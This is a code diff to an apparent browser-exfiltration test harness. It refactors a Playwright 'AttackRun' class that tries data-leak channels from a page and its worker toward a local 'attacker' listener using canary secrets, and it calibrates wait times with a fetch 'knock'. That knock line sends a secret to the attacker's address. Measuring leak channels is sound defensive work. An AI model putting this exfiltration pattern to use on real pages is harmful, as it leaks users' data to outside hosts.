@@ -1,4 +1,4 @@
-"""One raid: ways out tried from one page and its worker, by somebody whose code already runs there.
+"""One run: ways out tried from one page and its worker, by somebody whose code already runs there.
 
 What a way does is never waited for, only what arrives: a page that is led elsewhere, or brought down, gives no answer.
 """
@@ -11,17 +11,20 @@ from dataclasses import dataclass, field
 from typing import Any
 
 from playwright.sync_api import BrowserContext, Error, Frame, Page, Worker
+from waiting import until
 
-from attack.answers import AROUND, OPENER
-from attack.attacker import Attacker
-from attack.left_behind import find
-from attack.own_host import BARE
-from attack.places import Place
-from attack.tries import Try, new_secret, tries
-from attack.ways import SAID, TRY, Way
+from exfiltration.listeners.answers import AROUND, OPENER
+from exfiltration.listeners.attacker import Attacker
+from exfiltration.runs.canaries import Try, new_secret, tries
+from exfiltration.runs.channels import SAID, SIGN, TRY, Way
+from exfiltration.runs.left_behind import find
+from exfiltration.runs.site_host import BARE
+from exfiltration.runs.targets import Place
 
 # How long to wait for what is expected to arrive: far above what a busy machine needs.
 PATIENCE = 20.0
+# What a request takes at most, in seconds, from the page to the attacker on a machine that does nothing else.
+QUIET_KNOCK = 0.05
 # How often what is expected and did not arrive is tried again.
 SECOND_CHANCES = 2
 # How many tabs are attacked at once.
@@ -29,16 +32,16 @@ ABREAST = 4
 
 # Between two ways: takes away what one has laid over the page, and tells whether it is the same page still. A page that
 # has been loaded again, or left, is another, in which what we put into the first is missing.
-_MARK = "() => void (globalThis.raided = true)"
+_MARK = "() => void (globalThis.attacked = true)"
 _CLEAR_AWAY = """() => {
   for (const left of document.querySelectorAll("#cover, base")) left.remove();
   if (location.search) history.replaceState(null, "", location.pathname);
-  return globalThis.raided === true;
+  return globalThis.attacked === true;
 }"""
 
 
 @dataclass
-class Raid:
+class AttackRun:
     """The attacker's hand in one browser, on one page."""
 
     context: BrowserContext
@@ -52,6 +55,8 @@ class Raid:
     # What was found: the longest that anything took to arrive, and what each way said, for who wonders why one does not
     # work.
     slowest: float = field(default=0.0, init=False)
+    # The most that listening was stretched on a busy machine.
+    stretch: float = field(default=1.0, init=False)
     said: dict[str, str] = field(default_factory=dict, init=False)
     _tried: list[Try] = field(default_factory=list, init=False)
 
@@ -230,6 +235,7 @@ class Raid:
     def _tries(self, ways: Sequence[Way]) -> Iterator[list[Try]]:
         with tries(ways, self.attacker, self.place.host.address) as made:
             self._tried += made
+            self.place.host.signs[:] = [each.secret for each in made if each.way.name == SIGN]
             yield made
 
     def _start(self, target: Page | Frame | Worker, tries: Sequence[Try]) -> None:
@@ -240,19 +246,17 @@ class Raid:
             _ask(target, TRY, pairs)
 
     def _wait_until_covered(self, page: Page) -> None:
-        until = time.monotonic() + PATIENCE
-        while not _ask_even_if_led_away(page, "() => document.getElementById('cover') !== null"):
-            page.wait_for_timeout(20)
-            assert time.monotonic() < until, "nothing to click"
+        covered = "() => document.getElementById('cover') !== null"
+        until(page, lambda: _ask_even_if_led_away(page, covered))
 
     def _wait_until_said(self, target: Page | Worker, tries: Sequence[Try]) -> None:
         """Wait until each way has come to an end or has waited long enough: some leave a thing that is to be found."""
-        until = time.monotonic() + PATIENCE
-        said: dict[str, str] = {}
-        while len(said) < len(tries) and time.monotonic() < until:
-            self.context.pages[0].wait_for_timeout(50)
-            said = _ask(target, SAID)
-        self.said |= said
+
+        def said() -> dict[str, str]:
+            found: dict[str, str] = _ask(target, SAID)
+            return found if len(found) == len(tries) else {}
+
+        self.said |= until(self.context.pages[0], said)
 
     def _listen(self, tries: Sequence[Try], settle: float) -> None:
         """Wait for what is expected, then a while for what is not."""
@@ -260,20 +264,26 @@ class Raid:
         start = time.monotonic()
         heard.wait_for([each.secret for each in tries if each.way.name in self.expected], PATIENCE)
         rest = [each.secret for each in tries if each.way.name not in self.expected]
+        stretch = self._knock()
         if rest:
-            self._knock()
-            heard.wait_for(rest, settle)
+            heard.wait_for(rest, settle * stretch)
+        self.stretch = max(self.stretch, stretch)
         times = [when for each in tries if (when := heard.when(each.secret)) is not None]
         self.slowest = max(self.slowest, *(when - start for when in times), 0.0)
 
-    def _knock(self) -> None:
-        """See something arrive from the same browser: silence counts only where a sound is heard."""
+    def _knock(self) -> float:
+        """See something arrive from the same browser: silence counts only where a sound is heard.
+
+        Return how many times longer than on a quiet machine to listen, at least 1.
+        """
         secret = new_secret("knock")
         page = self.context.pages[0]
         if not page.url.endswith(BARE):
             page.goto(f"{self.place.host.address}{BARE}")
+        start = time.monotonic()
         _ask(page, "address => void fetch(address)", f"{self.attacker.address}/{secret}")
         assert self.attacker.heard.wait_for([secret], PATIENCE), "the attacker hears nothing at all"
+        return max(1.0, (time.monotonic() - start) / QUIET_KNOCK)
 
 
 def _ask(target: Page | Frame | Worker, script: str, about: object = None) -> Any:
